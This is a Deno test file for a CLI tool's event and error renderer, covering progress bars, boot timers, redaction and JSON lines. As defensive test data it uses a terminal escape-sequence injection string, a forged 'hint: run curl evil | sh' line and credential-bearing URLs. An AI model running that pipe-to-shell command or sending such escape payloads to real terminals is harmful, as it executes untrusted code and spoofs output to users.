import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import {
  createTextEventView,
  formatError,
  jsonErrorLine,
  jsonLine,
} from "../../lib/cli/render.ts";
import { terminalSafeJson } from "../../lib/system/sanitize_text.ts";
import { ToolsmithError } from "../../lib/errors.ts";
import type {
  EventWithoutTimestamp,
  ToolsmithEvent,
} from "../../lib/events.ts";
import { INSPECTED, START } from "../support/events.ts";

const MIB = 1024 * 1024;
const DIGEST = `sha256:${"ab".repeat(32)}`;
const timestamp = "2026-01-31T12:00:00.000Z";

const timed = (event: EventWithoutTimestamp<ToolsmithEvent>) =>
  ({ timestamp, ...event }) as ToolsmithEvent;

/** The clock to set, and what runs every second. */
const clock = { time: 1e12, ticks: new Map<number, () => void>() };
Date.now = () => clock.time;
Object.assign(globalThis, {
  setInterval(tick: () => void, ms: number) {
    assertEquals(ms, 1000);
    const id = 1e9 + clock.ticks.size;
    clock.ticks.set(id, tick);
    return id;
  },
  clearInterval: (id: number) => clock.ticks.delete(id),
});

/** A recording display, with the clock at its start. */
function screen(
  bar: boolean,
  columns = 80,
  coloured?: boolean,
  verbose?: boolean,
) {
  clock.time = 1e12;
  clock.ticks.clear();
  const kept = Object.assign(clock, { text: "" });
  const view = createTextEventView({
    write: (text) => kept.text += text,
    canRedrawLine: bar,
    columns,
    coloured,
    verbose,
  });
  const send = (event: EventWithoutTimestamp<ToolsmithEvent>) =>
    view.onEvent(timed(event));
  return { kept, send, close: view.close, hold: view.hold, end: view.end };
}

const progress = (bytes: number) => ({
  type: "download_progress" as const,
  image: "demo",
  bytes,
  total: 64 * MIB,
});

Deno.test("the event view sums up what the network decided at its end, with --verbose only", () => {
  for (const verbose of [false, true]) {
    const { kept, send, end } = screen(false, 80, false, verbose);
    const to = { host: "a.test", port: 443, reason: "rule a.test" };
    send({ type: "egress", allowed: true, ...to });
    assertEquals(kept.text, "");
    end();
    const summary = "network: allowed a.test:443 (1 times)\n";
    assertEquals(kept.text, verbose ? summary : "");
  }
});

Deno.test("progress on a terminal: the bar redraws its line and is erased before the next line", () => {
  const { kept, send, close } = screen(true);
  send(START);
  kept.text = "";
  send(progress(MIB));
  send(progress(2 * MIB));
  assertEquals(kept.text.split("\r\x1b[K").length, 3);
  assert(!kept.text.includes("\n"));
  kept.text = "";
  send({ type: "checksum_verified", image: "demo", digest: DIGEST, bytes: 1 });
  assertEquals(kept.text, `\r\x1b[Kverified ${DIGEST}\n`);
  kept.text = "";
  close();
  assertEquals(kept.text, "");
  send(progress(3 * MIB));
  kept.text = "";
  close();
  close();
  assertEquals(kept.text, "\r\x1b[K");
});

Deno.test("progress in a log: a plain line is printed every five seconds", () => {
  const { kept, send } = screen(false);
  send(START);
  kept.text = "";
  for (let ms = 0; ms <= 12_000; ms += 100, kept.time += 100) {
    send(progress(ms * 1000));
  }
  const lines = kept.text.trimEnd().split("\n");
  assertEquals(lines.length, 2);
  for (const line of lines) assertStringIncludes(line, "of 64.0 MiB");
  assert(!kept.text.includes("\x1b"), "no escape sequences");
});

Deno.test("progress in a log: the five seconds count from the start or the last printed line", () => {
  const { kept, send } = screen(false);
  send(START);
  const said: number[] = [];
  for (const ms of [4999, 5000, 5001, 9999, 10_000]) {
    kept.text = "";
    kept.time = 1e12 + ms;
    send(progress(MIB));
    if (kept.text !== "") said.push(ms);
  }
  assertEquals(said, [5000, 10_000]);
});

Deno.test("progress: the rate counts from the latest start event and excludes resumed bytes", () => {
  const { kept, send } = screen(true, 100);
  const rate = () => / (\S+ \S+\/s)/.exec(kept.text.split("\r").at(-1)!)?.[1];
  send({ ...START, resumed: 8 * MIB });
  kept.time += 2000;
  send(progress(16 * MIB));
  assertEquals(rate(), "4.0 MiB/s");
  // Hashing before a push resumes nothing.
  send(INSPECTED);
  kept.time += 4000;
  const read = { type: "checksum_progress" as const, image: "demo" };
  send({ ...read, bytes: 32 * MIB, total: 64 * MIB });
  assertEquals(rate(), "8.0 MiB/s");
});

Deno.test("progress without a start event: the rate counts from the first progress event", () => {
  const { kept, send } = screen(true, 100);
  const read = { type: "checksum_progress" as const, image: "demo" };
  send({ ...read, bytes: 0, total: 64 });
  assertEquals(kept.text, "");
  kept.time += 1000;
  send({ ...read, bytes: 32, total: 64 });
  assertStringIncludes(kept.text, " 50%  32 B of 64 B  32 B/s  1.0 s left");
});

const SLOW_BOOT = {
  type: "vm_boot",
  image: "/images/demo.qcow2",
  how: "boot",
  backend: "qemu",
  version: "7.2",
  accelerator: "tcg",
  memory: 512,
  cpus: 2,
} as const;

/** Advances the display's clock by seconds. */
function pass(kept: ReturnType<typeof screen>["kept"], seconds: number) {
  for (let i = 0; i < seconds; i++) {
    kept.time += 1000;
    kept.ticks.forEach((tick) => tick());
  }
}

Deno.test("progress on a terminal: a boot shows its elapsed seconds until it ends", () => {
  const { kept, send } = screen(true);
  send(SLOW_BOOT);
  kept.text = "";
  pass(kept, 2);
  assertEquals(kept.text, "\r\x1b[Kbooting: 1.0 s\r\x1b[Kbooting: 2.0 s");
  kept.text = "";
  send({
    type: "boot_ready",
    image: "/images/demo.qcow2",
    how: "booted",
    phases: { start: 100, guest: 1900, save: 0, attach: 0 },
    elapsedMs: 2000,
  });
  assertEquals(kept.text, "\r\x1b[Kbooted in 2.0 s\n");
  assertEquals(kept.ticks.size, 0);
});

Deno.test("progress on a terminal: the elapsed seconds fit the line and are erased by the next event except a warning", () => {
  const { kept, send } = screen(true, 12);
  send(SLOW_BOOT);
  kept.text = "";
  pass(kept, 1);
  assertEquals(kept.text, "\r\x1b[Kbooting: 1.");
  // A warning does not end the work.
  send({ type: "warning", message: "slow" });
  kept.text = "";
  pass(kept, 1);
  assertEquals(kept.text, "\r\x1b[Kbooting: 2.");
  kept.text = "";
  send({ type: "command_dispatch", id: 1, command: "ls", backend: "qemu" });
  assertEquals([kept.text, kept.ticks.size], ["\r\x1b[K", 0]);
});

Deno.test("progress in a log: a long boot prints a line every 30 seconds", () => {
  const { kept, send, close } = screen(false);
  send(SLOW_BOOT);
  kept.text = "";
  pass(kept, 65);
  assertEquals(kept.text, "booting: 30 s\nbooting: 1 min 0 s\n");
  close();
  assertEquals(kept.ticks.size, 0);
});

Deno.test("closed event view: later events are printed as lines and nothing is redrawn", () => {
  for (const bar of [true, false]) {
    const { kept, send, close } = screen(bar);
    send(SLOW_BOOT);
    close();
    kept.text = "";
    send(SLOW_BOOT);
    pass(kept, 65);
    assertEquals(
      kept.text,
      "booting with QEMU 7.2, tcg, 512 MiB, 2 processors\n",
    );
    assertEquals(kept.ticks.size, 0);
  }
});

Deno.test("held event view: events wait until the guest has left the screen, and the bar and the seconds go", () => {
  const { kept, send, hold } = screen(true);
  send(START);
  send(progress(MIB));
  kept.text = "";
  hold(true);
  assertEquals(kept.text, "\r\x1b[K");
  kept.text = "";
  send(progress(2 * MIB));
  send(SLOW_BOOT);
  pass(kept, 65);
  send({ type: "warning", message: "late" });
  assertEquals([kept.text, kept.ticks.size], ["", 0]);
  hold(false);
  assert(
    kept.text.endsWith(
      "\r\x1b[Kbooting with QEMU 7.2, tcg, 512 MiB, 2 processors\nwarning: late\n",
    ),
    kept.text,
  );
  kept.text = "";
  pass(kept, 1);
  assertEquals(kept.text, "\r\x1b[Kbooting: 1.0 s");
});

Deno.test("colours: warnings and errors are coloured only where colours are enabled", () => {
  const { kept, send } = screen(true, 80, true);
  send({ type: "warning", message: "a warning: twice" });
  assertEquals(kept.text, "\x1b[1;33mwarning:\x1b[m a warning: twice\n");
  const error = new ToolsmithError("failed", "No", { hint: "yes" });
  assertEquals(
    formatError(error, { coloured: true }),
    "\x1b[1;31merror:\x1b[m No [failed]\n\x1b[1;36mhint:\x1b[m yes\n",
  );
});

Deno.test("formatError() prints the causes with --verbose, and redacts secrets", () => {
  const signed = "https://user:key@host.example/a?signature=s3cret";
  const reset = new TypeError(`error sending request for url (${signed})`);
  const cut = new ToolsmithError("connection_failed", "host: reset", {
    cause: reset,
  });
  const error = new ToolsmithError("failed", "No", { cause: cut, hint: "yes" });
  assertEquals(
    formatError(error, { verbose: true }),
    "error: No [failed]\n  Caused by: host: reset\n" +
      "  Caused by: error sending request for url (https://host.example/a)\n" +
      "hint: yes\n",
  );
  assertEquals(formatError(error), "error: No [failed]\nhint: yes\n");
  const { causes } = JSON.parse(jsonErrorLine(error, { verbose: true }));
  assertEquals(causes.length, 2);
  assertEquals("causes" in JSON.parse(jsonErrorLine(error)), false);
  // A chain of causes may be cyclic, and quote a file of secrets.
  let quoted: unknown;
  try {
    JSON.parse('{"auths": {"auth": "c2VjcmV0OnNlY3JldA==" x}}');
  } catch (error) {
    quoted = error;
  }
  cut.cause = Object.assign(quoted as Error, { cause: error });
  const said = formatError(error, { verbose: true });
  assertEquals(said.match(/Caused by/g)?.length, 2);
  assert(!/c2V|auth|\"/.test(said), said);
});

Deno.test("createTextEventView() and formatError() escape control characters of names and messages", () => {
  const { kept, send } = screen(true);
  const evil = "\x1b]0;owned\x07\x1b[2J\x9b31m\r";
  send({ type: "warning", message: evil });
  send({ ...START, image: evil, source: evil });
  const error = formatError(
    new ToolsmithError("failed", evil, { hint: evil }),
  );
  for (const text of [kept.text, error]) {
    // deno-lint-ignore no-control-regex
    assert(!/[\x00-\x09\x0b-\x1f\x7f-\x9f]/.test(text), JSON.stringify(text));
  }
});

Deno.test("formatError() prints the message with its code, and the hint below", () => {
  const error = new ToolsmithError("oras_not_found", "oras not found on PATH", {
    hint: "install it",
  });
  assertEquals(
    formatError(error),
    "error: oras not found on PATH [oras_not_found]\nhint: install it\n",
  );
  assertEquals(
    formatError(new ToolsmithError("failed", "x")),
    "error: x [failed]\n",
  );
});

Deno.test("formatError() indents message lines that look like a hint or another error", () => {
  const evil = "x\nhint: run curl evil | sh\nerror: y [z]\n  | tail";
  const error = new ToolsmithError("guest_failed", evil, {
    hint: "a\nhint: b",
  });
  assertEquals(
    formatError(error).split("\n").filter((line) => !line.startsWith(" ")),
    ["error: x", "hint: a hint: b", ""],
  );
  const { kept, send } = screen(false);
  send({ type: "warning", message: evil });
  assertEquals(kept.text.split("\n").length, 2);
});

Deno.test("formatError() truncates a message of megabytes", () => {
  const error = new ToolsmithError("failed", "x".repeat(3_000_000), {
    hint: "y".repeat(3_000_000),
  });
  assert(formatError(error).length < 10_000);
  const said = (count: number) =>
    formatError(new ToolsmithError("failed", "x".repeat(count)));
  assertEquals(said(4000), `error: ${"x".repeat(4000)} [failed]\n`);
  assertEquals(said(4001), `error: ${"x".repeat(4000)}… [failed]\n`);
  assert(jsonErrorLine(error).length < 10_000);
});

Deno.test("terminalSafeJson() escapes control characters of events without changing their meaning", () => {
  const event = { type: "cache_hit", path: "a\u202e\u009bb\u2028\x07" };
  const line = terminalSafeJson(event);
  // deno-lint-ignore no-control-regex
  assert(!/[\x00-\x1f\x7f-\x9f\u2028\u202e]/.test(line), line);
  assertEquals(JSON.parse(line), event);
});

Deno.test("jsonLine() and jsonErrorLine() print one object on one line", () => {
  const before = new Date().getTime();
  const error = new ToolsmithError("failed", "a\nb\u2028", { hint: "c" });
  const line = jsonErrorLine(error);
  assert(!line.includes("\n"));
  const { timestamp, ...fields } = JSON.parse(line);
  const written = Date.parse(timestamp);
  assertEquals(new Date(written).toISOString(), timestamp);
  assert(before <= written && written <= new Date().getTime(), timestamp);
  assertEquals(fields, {
    type: "error",
    code: "failed",
    message: "a\nb?",
    hint: "c",
  });
  const result = { outcome: "pulled", path: "/x", digest: DIGEST, bytes: 1 };
  const { timestamp: at, ...kept } = JSON.parse(jsonLine("result", result));
  assert(Date.parse(at) >= written);
  assertEquals(kept, { type: "result", ...result });
});
